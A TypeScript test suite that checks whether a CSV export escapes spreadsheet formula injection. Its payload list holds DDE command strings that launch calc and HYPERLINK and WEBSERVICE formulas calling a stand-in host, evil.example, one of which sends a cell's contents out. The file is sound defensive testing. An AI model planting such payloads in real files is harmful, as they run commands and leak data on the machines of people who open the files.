import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { type Cell, csvOf, restoredText, safeText } from './csv.js';

const columns = [
  { heading: 'text', cell: ({ text }: { text: Cell }) => text },
  { heading: 'more', cell: () => 'x' },
];
const written = (text: Cell): string => csvOf([{ text }], columns);
const readBack = (csv: string, delimiter = ','): string[][] =>
  parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true });

/** As a spreadsheet decides: after blanks and quotes, is it something to compute? */
const computes = (cell: string): boolean =>
  /^[\s"\u0000\u00A0\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || /^[\t\r\u0000]/.test(cell);

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u0000', '\u00A0', '"', "'", '" ', "''", ' "'];
const PAYLOADS = [
  ...SIGNS.flatMap((sign) => BEFORE.map((before) => `${before}${sign}cmd|' /C calc'!A0`)),
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=1+1;=2+2',
  'good;=WEBSERVICE("http://evil.example")',
  'two lines\n=1+1',
  'two lines\r\n@SUM(1)',
  'a\t=1+1',
  '-2+3+cmd|calc!A0',
  '%0A=1+1',
  '|=1',
  '-',
  '=',
];

describe('an export as CSV (S15)', () => {
  it(`makes a formula of none of ${PAYLOADS.length} texts that would be one`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    for (const payload of PAYLOADS) {
      const dangerous = readBack(written(payload))[1]!.filter(computes);
      expect([payload, dangerous]).toEqual([payload, []]);
    }
  });

  it('makes none where a spreadsheet of another country takes the file apart at its semicolons', () => {
    for (const payload of PAYLOADS) {
      const dangerous = readBack(written(`said ${payload}`), ';')
        .slice(1)
        .flat()
        .filter(computes);
      expect([payload, dangerous]).toEqual([payload, []]);
    }
  });

  it('brings back every text as it was', () => {
    const piece = fc.constantFrom(...SIGNS, ...BEFORE, ';', ',', 'a', 'é', '😀', '\r\n', '|', '%');
    const text = fc.oneof(
      fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
      fc.string(),
      fc.constantFrom(...PAYLOADS),
    );
    fc.assert(
      fc.property(text, (said) => {
        expect(restoredText(safeText(said))).toBe(said);
        expect(restoredText(readBack(written(said))[1]![0]!)).toBe(said);
      }),
      { numRuns: 3_000 },
    );
  });

  it('takes no longer for a megabyte of blanks than for any other text', () => {
    const began = performance.now();
    expect(safeText(' \n'.repeat(500_000)).length).toBe(1_000_000);
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  it('leaves numbers numbers and times readable', () => {
    expect(written(-5)).toContain('\r\n-5,"x"');
    expect(written(new Date(0))).toContain('"1970-01-01T00:00:00.000Z"');
    expect([written(null), written(undefined), written(Number.NaN)].map((csv) => readBack(csv)[1]![0])).toEqual([
      '',
      '',
      'NaN',
    ]);
  });

  it('would be caught without the apostrophe (R44)', () => {
    const mutant = PAYLOADS.map((payload) => readBack(`text\r\n"${payload.replaceAll('"', '""')}"\r\n`)[1]![0]!);
    expect(mutant.filter(computes).length).toBeGreaterThan(40);
  });
});
